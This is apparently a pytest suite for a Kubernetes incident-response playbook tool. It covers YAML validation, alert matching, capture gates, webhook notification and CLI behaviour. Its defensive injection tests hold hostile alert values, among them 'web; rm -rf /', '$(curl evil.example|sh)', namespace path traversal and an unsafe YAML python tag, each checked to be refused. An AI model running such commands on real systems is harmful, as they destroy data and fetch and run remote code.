"""Playbook schema (line-numbered errors), matching of every sample, the engine's gates and
conditions, injection attempts, notify over real HTTP, and the `ir playbook` commands."""

from __future__ import annotations

import json
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ir.cli.main import main
from ir.errors import ClusterError
from ir.playbook.actions import DRY_RUN, ActionContext, DryRunActions, RecordingActions, StepResult
from ir.playbook.alerts import Alert, Target, load_alert_file, parse_document
from ir.playbook.audit import AuditLog
from ir.playbook.engine import Engine
from ir.playbook.k8snames import is_dns1123_label, is_dns1123_subdomain
from ir.playbook.loader import check_playbook_text, load_playbooks, load_playbooks_strict
from ir.playbook.match import match_alert, select
from ir.playbook.notify import WebhookNotifier
from ir.playbook.spec import Playbook

ROOT = Path(__file__).resolve().parent.parent
PLAYBOOKS = ROOT / "playbooks"
SAMPLES = ROOT / "samples" / "alerts"


@pytest.fixture(scope="module")
def shipped() -> list[Playbook]:
    return load_playbooks_strict([PLAYBOOKS])


def _alert(name: str, index: int = 0) -> Alert:
    return load_alert_file(SAMPLES / name)[index]


def _falco(**fields: Any) -> Alert:
    doc = json.loads((SAMPLES / "falco-terminal-shell.json").read_text())
    doc["output_fields"].update(fields)
    return parse_document(doc)[0]


def _book(text: str, name: str = "test.yaml") -> Playbook:
    book, problems = check_playbook_text(text, name)
    assert not problems, [str(p) for p in problems]
    assert book is not None
    return book


MINIMAL = """\
apiVersion: ir/v1
kind: Playbook
name: t
trigger:
  sources: [falco]
  rules: [Terminal shell in container]
steps:
  - action: capture
  - action: quarantine
  - action: replace
"""


# -- the shipped playbooks and samples ----------------------------------------------------


def test_shipped_playbooks_are_valid_and_cover_the_required_cases(shipped: list[Playbook]) -> None:
    names = {p.name for p in shipped}
    assert {
        "shell-in-container",
        "crypto-miner",
        "binary-drift",
        "guardduty-eks-runtime",
        "capture-only",
    } <= names
    capture_only = next(p for p in shipped if p.name == "capture-only")
    assert not any(s.destructive for s in capture_only.steps)


# sample (alert index) -> (playbook that runs, target key) or None: nothing runs
SELECTED: dict[tuple[str, int], tuple[str, str] | None] = {
    ("falco-terminal-shell.json", 0): ("shell-in-container", "pod/shop/web-7f9c6d8b5-x2kqp"),
    ("falco-reverse-shell.json", 0): ("shell-in-container", "pod/shop/web-7f9c6d8b5-x2kqp"),
    ("falco-crypto-miner.json", 0): ("crypto-miner", "pod/batch/report-worker-5d8f7c9b6-qm4zt"),
    ("falco-drop-and-execute.json", 0): ("binary-drift", "pod/batch/report-worker-5d8f7c9b6-qm4zt"),
    ("falco-write-below-binary-dir.json", 0): ("binary-drift", "pod/payments/payments-api-0"),
    ("falco-k8s-audit-exec.json", 0): None,
    ("falco-host-event.json", 0): None,
    ("alertmanager-falcosidekick-shell.json", 0): (
        "shell-in-container",
        "pod/shop/web-7f9c6d8b5-x2kqp",
    ),
    ("alertmanager-group-mixed.json", 0): (
        "crypto-miner",
        "pod/batch/report-worker-5d8f7c9b6-qm4zt",
    ),
    ("alertmanager-group-mixed.json", 1): (
        "crypto-miner",
        "pod/batch/report-worker-5d8f7c9b6-7hv9c",
    ),
    ("alertmanager-group-mixed.json", 2): None,  # resolved
    ("alertmanager-resolved.json", 0): None,
    ("alertmanager-capture-request.json", 0): ("capture-only", "pod/shop/cart-5b6c7d8e9f-k3j2h"),
    ("guardduty-eventbridge-reverse-shell.json", 0): (
        "guardduty-eks-runtime",
        "pod/shop/web-7f9c6d8b5-x2kqp",
    ),
    ("guardduty-finding-cryptominer.json", 0): (
        "guardduty-eks-runtime",
        "pod/batch/report-worker-5d8f7c9b6-qm4zt",
    ),
    ("guardduty-getfindings-boto3.json", 0): (
        "guardduty-eks-runtime",
        "pod/shop/web-7f9c6d8b5-x2kqp",
    ),
    ("guardduty-eventbridge-node.json", 0): (
        "guardduty-eks-node",
        "node/ip-10-0-3-7.eu-west-1.compute.internal",
    ),
    ("guardduty-eventbridge-ec2-runtime.json", 0): None,  # an EC2 host: no node of a cluster
    ("guardduty-eventbridge-exec-kube-system.json", 0): None,  # kube-system is protected
    ("guardduty-eventbridge-serviceaccount.json", 0): None,
    ("guardduty-finding-privileged-deployment.json", 0): None,  # a Deployment, not a pod
}


def test_selection_table_covers_every_sample() -> None:
    covered = {name for name, _ in SELECTED}
    assert covered == {p.name for p in SAMPLES.glob("*.json")}


@pytest.mark.parametrize(("name", "index"), sorted(SELECTED))
def test_each_sample_selects_the_right_playbook_and_target(
    shipped: list[Playbook], name: str, index: int
) -> None:
    alert = _alert(name, index)
    chosen = select(match_alert(shipped, alert))
    expected = SELECTED[(name, index)]
    if expected is None:
        assert chosen is None
    else:
        assert chosen is not None and chosen.target is not None
        assert (chosen.playbook.name, chosen.target.key) == expected


def test_protected_namespace_is_refused_with_a_reason(shipped: list[Playbook]) -> None:
    results = match_alert(shipped, _alert("guardduty-eventbridge-exec-kube-system.json"))
    audit = next(r for r in results if r.playbook.name == "guardduty-eks-audit")
    assert audit.decision == "refused" and "kube-system is protected" in audit.reasons[-1]


# -- validation with line numbers ---------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            MINIMAL.replace("  - action: replace\n", "  - action: replase\n"),
            "test.yaml:10:13: steps[2].action: 'replase' is not one of",
        ),
        (
            MINIMAL.replace("trigger:\n", "trigger:\n  rulez: [x]\n"),
            "test.yaml:5:3: trigger.rulez: unknown key 'rulez' (did you mean 'rules'?)",
        ),
        (MINIMAL.replace("name: t\n", "name: t\nname: u\n"), "test.yaml:4:1: duplicate key 'name'"),
        (
            MINIMAL + "  - action: label\n    on: node\n    labels: {a: b}\n",
            "test.yaml:12:5: mapping key 'on' is not a plain string (YAML reads it as bool); quote it",
        ),
        (
            MINIMAL.replace("  - action: capture\n", ""),
            "test.yaml:8:5: steps[0]: destructive step '1-quarantine' (quarantine) has no capture step before it",
        ),
        (
            MINIMAL.replace("rules: [Terminal shell in container]", "rule_patterns: ['([']"),
            "test.yaml:6:19: trigger.rule_patterns[0]: invalid regular expression",
        ),
        (
            MINIMAL.replace("  sources: [falco]\n", "  sources: [falco]\n  min_priority: loud\n"),
            "test.yaml:6:17: trigger.min_priority: 'loud' is not a priority",
        ),
        (
            MINIMAL + "target:\n  falco:\n    pod: output_fields/k8s.pod.name\n",
            "test.yaml:13:10: target.falco.pod: JSON Pointer 'output_fields/k8s.pod.name' must start with '/'",
        ),
        (
            MINIMAL + "  - action: notify\n    url: http://user:pw@example.com/hook\n",
            "test.yaml:12:10: steps[3].url: credentials in the URL are not allowed",
        ),
        (
            MINIMAL + "  - action: label\n    labels:\n      'bad key!': x\n",
            "test.yaml:13:7: steps[3].labels.bad key!: key 'bad key!': name 'bad key!' must be",
        ),
        ("base: &b {a: 1}\nother: *b\n", "test.yaml:1:7: YAML anchors and aliases are not allowed"),
        ("name: [unclosed\n", "test.yaml:2:1: YAML syntax"),
        (MINIMAL + "---\n" + MINIMAL, "test.yaml:1:1: expected exactly one YAML document, found 2"),
        (
            MINIMAL.replace("kind: Playbook", "kind: Playbook\nextra: !!python/object:os.system x"),
            "test.yaml:3:8: custom YAML tag",
        ),
        (
            MINIMAL.replace("  rules: [Terminal shell in container]\n", ""),
            "test.yaml:5:3: trigger: a trigger needs at least one of rules, rule_patterns or fields",
        ),
        (
            MINIMAL.replace("apiVersion: ir/v1", "apiVersion: ir/v2"),
            "test.yaml:1:13: apiVersion: 'ir/v2' is not one of",
        ),
    ],
)
def test_validation_errors_carry_file_line_and_column(text: str, expected: str) -> None:
    book, problems = check_playbook_text(text, "test.yaml")
    assert book is None
    assert any(str(p).startswith(expected) for p in problems), [str(p) for p in problems]


def test_all_problems_of_a_file_are_reported_at_once() -> None:
    text = (
        MINIMAL.replace("rules: [Terminal", "rulez: [Terminal")
        + "  - action: delete\n    grace_period_seconds: -1\n"
    )
    _, problems = check_playbook_text(text, "x.yaml")
    assert len(problems) >= 3
    assert [p.line for p in problems] == sorted(p.line for p in problems)


def test_validate_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _ir(["playbook", "validate", str(PLAYBOOKS)]) == 0
    assert "7 valid, 0 problem(s)" in capsys.readouterr().out
    (tmp_path / "bad.yaml").write_text(MINIMAL.replace("action: replace", "action: nuke"))
    (tmp_path / "good.yaml").write_text(MINIMAL)
    assert _ir(["playbook", "validate", str(tmp_path), "-o", "json"]) == 2
    report = json.loads(capsys.readouterr().out)
    assert report["valid"] is False and report["problems"][0]["line"] == 10
    assert [p["name"] for p in report["playbooks"]] == ["t"]


def test_duplicate_playbook_names_are_a_problem(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(MINIMAL)
    (tmp_path / "b.yaml").write_text(MINIMAL)
    playbooks, problems = load_playbooks([tmp_path])
    assert len(playbooks) == 1 and "already used" in problems[0].message


# -- the engine ---------------------------------------------------------------------------


def _engine(actions: RecordingActions, **kwargs: Any) -> tuple[Engine, AuditLog]:
    audit = AuditLog(keep=True)
    return Engine(actions, audit=audit, operator="test", **kwargs), audit


def test_run_calls_steps_in_order_with_the_validated_target() -> None:
    actions = RecordingActions()
    engine, audit = _engine(actions)
    result = engine.run(_book(MINIMAL), _alert("falco-terminal-shell.json"))
    assert result.status == "ok" and result.exit_code == 0
    assert actions.actions_called() == ["capture", "quarantine", "replace"]
    call = actions.calls[1]
    assert (call.target.namespace, call.target.pod, call.target.container_id) == (
        "shop",
        "web-7f9c6d8b5-x2kqp",
        "3ad7b26ad9b4",
    )
    assert call.target.raw["uuid"] == "1f0b4f5e-2a53-4b0c-9b7e-8f3d6d4b2c11"
    assert (
        call.context.result_of("capture") is not None and call.context.result_of("capture").bundle
    )  # type: ignore[union-attr]
    assert (
        call.context.reason
        == "falco: Terminal shell in container (alert 1f0b4f5e-2a53-4b0c-9b7e-8f3d6d4b2c11)"
    )
    events = [r["event"] for r in audit.events()]
    assert events == ["run-start", "step", "step", "step", "run"]
    assert all(r["run_id"] == result.run_id for r in audit.events())


@pytest.mark.parametrize("capture_status", ["failed", "partial"])
def test_capture_gate_blocks_destructive_steps(capture_status: str) -> None:
    actions = RecordingActions(statuses={"capture": capture_status})
    engine, audit = _engine(actions)
    text = (
        MINIMAL
        + "  - action: annotate\n    annotations: {ir.forensics/a: b}\n    when: capture_failed\n"
    )
    result = engine.run(_book(text), _alert("falco-terminal-shell.json"))
    assert actions.actions_called() == ["capture", "annotate"]
    assert [s.status for s in result.steps] == [capture_status, "refused", "refused", "ok"]
    assert "capture gate closed" in result.steps[1].detail
    assert result.exit_code == 1
    refused = [r for r in audit.events("step") if r["status"] == "refused"]
    assert len(refused) == 2


def test_on_capture_failure_continue_opens_the_gate() -> None:
    actions = RecordingActions(statuses={"capture": "failed"})
    engine, _ = _engine(actions)
    book = _book(MINIMAL.replace("trigger:", "on_capture_failure: continue\ntrigger:"))
    engine.run(book, _alert("falco-terminal-shell.json"))
    assert actions.actions_called() == ["capture", "quarantine", "replace"]


def test_conditions_between_steps() -> None:
    actions = RecordingActions(statuses={"quarantine": "failed"})
    engine, _ = _engine(actions)
    text = MINIMAL.replace(
        "  - action: replace\n", "  - action: replace\n    when: previous_ok\n"
    ) + ("  - action: annotate\n    annotations: {ir.forensics/x: y}\n    when: previous_failed\n")
    result = engine.run(_book(text), _alert("falco-terminal-shell.json"))
    assert [s.status for s in result.steps] == ["ok", "failed", "skipped", "ok"]
    assert actions.actions_called() == ["capture", "quarantine", "annotate"]


def test_exceptions_in_actions_become_failed_steps() -> None:
    actions = RecordingActions(
        errors={"capture": RuntimeError("boom"), "quarantine": ClusterError("403 forbidden")}
    )
    engine, _ = _engine(actions)
    result = engine.run(
        _book(MINIMAL.replace("trigger:", "on_capture_failure: continue\ntrigger:")),
        _alert("falco-terminal-shell.json"),
    )
    assert [(s.status, s.detail) for s in result.steps[:2]] == [
        ("failed", "internal error in capture: RuntimeError: boom"),
        ("failed", "403 forbidden"),
    ]
    assert result.steps[2].status == "ok"

    class Broken(RecordingActions):
        def capture(
            self, target: Target, params: dict[str, Any], context: ActionContext
        ) -> StepResult:
            return "done"  # type: ignore[return-value]

    result = Engine(Broken()).run(_book(MINIMAL), _alert("falco-terminal-shell.json"))
    assert result.steps[0].status == "failed" and "not a StepResult" in result.steps[0].detail


def test_offline_dry_run_acts_on_nothing_and_invents_no_request() -> None:
    """Without a cluster the rehearsal says what each step would act on; the exact requests come
    only from the cluster path (server-side dry run: test_capture_pod.py)."""
    actions = RecordingActions()
    dry = DryRunActions()
    engine, _ = _engine(actions, dry_run_actions=dry)
    result = engine.run(_book("dry_run: true\n" + MINIMAL), _alert("falco-terminal-shell.json"))
    assert actions.calls == [] and result.status == DRY_RUN and result.exit_code == 0
    assert [s.requests for s in result.steps] == [[], [], []]
    assert dry.planned[1].startswith("would quarantine pod shop/web-7f9c6d8b5-x2kqp")


def test_node_target_playbook_captures_the_node_then_acts(shipped: list[Playbook]) -> None:
    """The node finding's EKS cluster is the configured one: the node is captured, then annotated
    and cordoned (the node named by the finding's instance)."""
    actions = RecordingActions()
    engine, _ = _engine(actions, cluster_name="prod-eu")
    book = next(p for p in shipped if p.name == "guardduty-eks-node")
    result = engine.run(book, _alert("guardduty-eventbridge-node.json"))
    assert actions.actions_called() == ["capture", "annotate", "cordon"]
    assert actions.calls[2].target.node == "ip-10-0-3-7.eu-west-1.compute.internal"
    assert actions.calls[0].context.alert.instance_id == "i-0c3d4e5f6071829a0"
    assert actions.calls[2].target.pod is None and result.steps[3].status == "skipped"


@pytest.mark.parametrize(
    ("cluster", "capture", "says"),
    [
        (None, "ok", "was not told its own cluster's name"),
        ("staging", "ok", "is about cluster 'prod-eu', not this one ('staging')"),
        ("prod-eu", "failed", "capture failed; a node is acted on only with evidence"),
    ],
    ids=["cluster-unknown", "other-cluster", "no-evidence"],
)
def test_node_actions_need_this_cluster_and_evidence(
    shipped: list[Playbook], cluster: str | None, capture: str, says: str
) -> None:
    """Whatever the playbook says about capture failures, a node is annotated or cordoned only
    for a finding about this cluster, after a completed capture."""
    actions = RecordingActions(statuses={"capture": capture})
    engine, _ = _engine(actions, cluster_name=cluster)
    book = next(p for p in shipped if p.name == "guardduty-eks-node")
    result = engine.run(book, _alert("guardduty-eventbridge-node.json"))
    assert actions.actions_called() == ["capture"]
    refused = [s for s in result.steps if s.action in ("annotate", "cordon")]
    assert [s.status for s in refused] == ["refused", "refused"]
    assert all(says in s.detail for s in refused), [s.detail for s in refused]


def test_waiving_node_evidence_is_explicit(shipped: list[Playbook]) -> None:
    text = MINIMAL.replace(
        "  sources: [falco]\n  rules: [Terminal shell in container]",
        "  sources: [guardduty]\n  rule_patterns: ['Runtime']",
    ).split("steps:")[0]
    text = "node_actions_need_capture: false\non_capture_failure: continue\n" + text
    text += "steps:\n  - action: cordon\n"
    actions = RecordingActions()
    engine, _ = _engine(actions, cluster_name="prod-eu")
    book = _book(text)
    assert book.node_actions_need_capture is False
    engine.run(book, _alert("guardduty-eventbridge-node.json"))
    assert actions.actions_called() == ["cordon"]


def test_steps_needing_a_pod_are_skipped_for_other_targets() -> None:
    actions = RecordingActions()
    engine, _ = _engine(actions)
    text = MINIMAL.replace(
        "  sources: [falco]\n  rules: [Terminal shell in container]",
        "  sources: [guardduty]\n  rule_patterns: ['.']",
    )
    result = engine.run(_book(text), _alert("guardduty-eventbridge-serviceaccount.json"))
    assert actions.calls == []
    assert [s.status for s in result.steps] == ["skipped", "refused", "refused"]


def test_run_of_a_playbook_that_does_not_match_is_refused(
    capsys: pytest.CaptureFixture[str],
) -> None:
    actions = RecordingActions()
    engine, audit = _engine(actions)
    result = engine.run(_book(MINIMAL), _alert("falco-crypto-miner.json"))
    assert result.status == "refused" and result.exit_code == 5 and actions.calls == []
    assert audit.events("run")[0]["status"] == "refused"


def test_namespace_allow_and_deny() -> None:
    allow = _book(MINIMAL.replace("trigger:\n", "trigger:\n  namespaces: {allow: ['pay*']}\n"))
    deny = _book(MINIMAL.replace("trigger:\n", "trigger:\n  namespaces: {deny: ['sh?p']}\n"))
    alert = _alert("falco-terminal-shell.json")
    assert not select(match_alert([allow], alert)) and not select(match_alert([deny], alert))
    protected = _book("allow_protected_namespaces: true\n" + MINIMAL)
    assert select(match_alert([protected], _falco(**{"k8s.ns.name": "kube-system"})))


# -- injection attempts act on nothing -----------------------------------------------------

HOSTILE = [
    {"k8s.pod.name": "web; rm -rf /"},
    {"k8s.pod.name": "$(curl evil.example|sh)"},
    {"k8s.pod.name": "../kube-system/pods/coredns"},
    {"k8s.pod.name": "web-1\n"},
    {"k8s.pod.name": "Web-1"},
    {"k8s.pod.name": "web 1"},
    {"k8s.pod.name": "web-1", "k8s.ns.name": "shop/../kube-system"},
    {"k8s.pod.name": "web-1", "k8s.ns.name": "kube-system"},
    {"k8s.pod.name": "web-1", "k8s.ns.name": "kube-node-lease"},
    {"k8s.pod.name": "web-1", "k8s.ns.name": "shop --all-namespaces"},
    {"k8s.pod.name": "web-1", "k8s.ns.name": None},
    {"k8s.pod.name": "x" * 300},
    {"k8s.pod.name": 12345},
    {"k8s.pod.name": ["web-1"]},
    {"k8s.pod.name": "web\u200b-1"},
    {"k8s.pod.name": "wеb-1"},  # Cyrillic e
]


@pytest.mark.parametrize("fields", HOSTILE, ids=[repr(h)[:40] for h in HOSTILE])
def test_injection_attempts_act_on_nothing(shipped: list[Playbook], fields: dict[str, Any]) -> None:
    alert = _falco(**fields)
    actions = RecordingActions()
    engine, audit = _engine(actions)
    for book in shipped:
        result = engine.run(book, alert)
        assert result.status == "refused"
    assert actions.calls == []
    assert select(match_alert(shipped, alert)) is None


@settings(max_examples=200, deadline=None)
@given(
    pod=st.text(alphabet=st.sampled_from("abz09-.;/ $`|&\n\\_A"), min_size=1, max_size=70),
    namespace=st.text(alphabet=st.sampled_from("abz09-./ ;"), min_size=1, max_size=20),
)
def test_only_valid_names_ever_reach_an_action(pod: str, namespace: str) -> None:
    actions = RecordingActions()
    engine = Engine(actions)
    engine.run(_book(MINIMAL), _falco(**{"k8s.pod.name": pod, "k8s.ns.name": namespace}))
    valid = (
        is_dns1123_subdomain(pod)
        and is_dns1123_label(namespace)
        and namespace not in ("kube-system", "kube-public", "kube-node-lease")
    )
    if valid:
        assert {(c.target.namespace, c.target.pod) for c in actions.calls} == {(namespace, pod)}
    else:
        assert actions.calls == []


def test_invalid_secondary_names_are_dropped_not_used() -> None:
    actions = RecordingActions()
    engine, _ = _engine(actions)
    alert = _falco(**{"container.id": "3ad7b26ad9b4; reboot", "container.name": "Nginx!"})
    result = engine.run(_book(MINIMAL), alert)
    assert result.status == "ok"
    target = actions.calls[0].target
    assert target.container_id is None and target.container is None
    assert any("not a container id" in n for n in result.notes)


# -- notify, for real --------------------------------------------------------------------


class _Receiver(BaseHTTPRequestHandler):
    received: list[tuple[str, dict[str, str], bytes]] = []
    mode = "ok"

    def do_POST(self) -> None:  # noqa: N802
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        type(self).received.append((self.path, dict(self.headers), body))
        if self.mode == "redirect":
            self.send_response(302)
            self.send_header("Location", "http://127.0.0.1:1/elsewhere")
        elif self.mode == "slow":
            time.sleep(1.5)
            self.send_response(200)
        else:
            self.send_response(204)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def receiver() -> Iterator[tuple[str, type[_Receiver]]]:
    _Receiver.received = []
    _Receiver.mode = "ok"
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Receiver)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}/hook", _Receiver
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_notify_posts_json_with_env_headers(receiver: tuple[str, type[_Receiver]]) -> None:
    url, handler = receiver
    actions = RecordingActions(statuses={"capture": "failed"})
    notifier = WebhookNotifier(env={"HOOK": url, "HOOK_AUTH": "Bearer s3cret"})
    engine, _ = _engine(actions, notifier=notifier)
    text = (
        MINIMAL
        + "  - action: notify\n    url_from_env: HOOK\n    headers_from_env: {Authorization: HOOK_AUTH}\n    when: always\n"
    )
    result = engine.run(_book(text), _alert("falco-terminal-shell.json"))
    assert result.steps[-1].status == "ok", result.steps[-1].detail
    path, headers, body = handler.received[0]
    document = json.loads(body)
    assert path == "/hook" and headers["Authorization"] == "Bearer s3cret"
    assert document["target"]["pod"] == "web-7f9c6d8b5-x2kqp"
    assert [s["status"] for s in document["steps"]] == ["failed", "refused", "refused"]


def test_notify_does_not_follow_redirects_and_times_out(
    receiver: tuple[str, type[_Receiver]],
) -> None:
    url, handler = receiver
    notifier = WebhookNotifier(env={})
    handler.mode = "redirect"
    assert notifier.send({"url": url}, {"a": 1}).detail == "webhook answered HTTP 302"
    handler.mode = "slow"
    started = time.monotonic()
    result = notifier.send({"url": url, "timeout_seconds": 0.3}, {"a": 1})
    assert result.status == "failed" and time.monotonic() - started < 1.4
    assert (
        notifier.send({"url": "http://127.0.0.1:1/x", "timeout_seconds": 1}, {}).status == "failed"
    )
    assert notifier.send({"url_from_env": "UNSET_VAR"}, {}).status == "skipped"


# -- the commands ------------------------------------------------------------------------


def _ir(argv: list[str]) -> int:
    try:
        main(argv)
    except SystemExit as exc:
        return int(exc.code or 0)
    return 0


def test_match_command(capsys: pytest.CaptureFixture[str]) -> None:
    assert (
        _ir(
            [
                "playbook",
                "match",
                "--alert",
                str(SAMPLES / "alertmanager-group-mixed.json"),
                "--playbooks",
                str(PLAYBOOKS),
                "-o",
                "json",
            ]
        )
        == 0
    )
    report = json.loads(capsys.readouterr().out)
    assert [a["selected"] for a in report["alerts"]] == ["crypto-miner", "crypto-miner", None]
    resolved = report["alerts"][2]["playbooks"][0]
    assert resolved["decision"] == "no-match" and "resolved" in resolved["reasons"][0]
    assert (
        _ir(
            [
                "playbook",
                "match",
                "--alert",
                str(SAMPLES / "falco-terminal-shell.json"),
                "--playbooks",
                str(PLAYBOOKS),
            ]
        )
        == 0
    )
    out = capsys.readouterr().out
    assert "RUNS" in out and "rule 'Terminal shell in container' listed" in out


def test_run_command_offline_dry_run_prints_every_step(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    audit = tmp_path / "audit.jsonl"
    code = _ir(
        [
            "playbook",
            "run",
            "crypto-miner",
            "--alert",
            str(SAMPLES / "falco-crypto-miner.json"),
            "--playbooks",
            str(PLAYBOOKS),
            "--dry-run",
            "--actions",
            "dry-run",
            "--audit-log",
            str(audit),
        ]
    )
    out = capsys.readouterr().out
    assert code == 0
    for step in ("capture", "quarantine", "replace", "label"):
        assert f"would {step} pod batch/report-worker-5d8f7c9b6-qm4zt" in out, out
    lines = [json.loads(line) for line in audit.read_text().splitlines()]
    assert {r["event"] for r in lines} == {"run-start", "step", "run"}
    assert all(r["dry_run"] for r in lines)


def test_run_command_exit_codes(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    args = ["--playbooks", str(PLAYBOOKS), "--dry-run", "--actions", "dry-run"]
    assert (
        _ir(
            [
                "playbook",
                "run",
                "crypto-miner",
                "--alert",
                str(SAMPLES / "falco-terminal-shell.json"),
                *args,
            ]
        )
        == 5
    )
    assert "REFUSED" in capsys.readouterr().out
    assert (
        _ir(
            [
                "playbook",
                "run",
                "nope",
                "--alert",
                str(SAMPLES / "falco-terminal-shell.json"),
                *args,
            ]
        )
        == 2
    )
    assert (
        _ir(
            [
                "playbook",
                "run",
                "capture-only",
                "--alert",
                str(SAMPLES / "alertmanager-resolved.json"),
                *args,
            ]
        )
        == 2
    )
    assert "no firing alert" in capsys.readouterr().err
    monkeypatch.setitem(sys.modules, "ir.cluster.actions", None)  # ir.cluster not importable
    assert (
        _ir(
            [
                "playbook",
                "run",
                "shell-in-container",
                "--alert",
                str(SAMPLES / "falco-terminal-shell.json"),
                "--playbooks",
                str(PLAYBOOKS),
            ]
        )
        == 4
    )
    assert "--actions cluster needs ir.cluster.actions.ClusterActions" in capsys.readouterr().err


def test_bad_alert_file_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "alert.json"
    bad.write_bytes(b'{"rule": "x", "rule": "y"}')
    assert _ir(["playbook", "match", "--alert", str(bad), "--playbooks", str(PLAYBOOKS)]) == 2
    err = capsys.readouterr().err
    assert "duplicate key 'rule'" in err and "Traceback" not in err
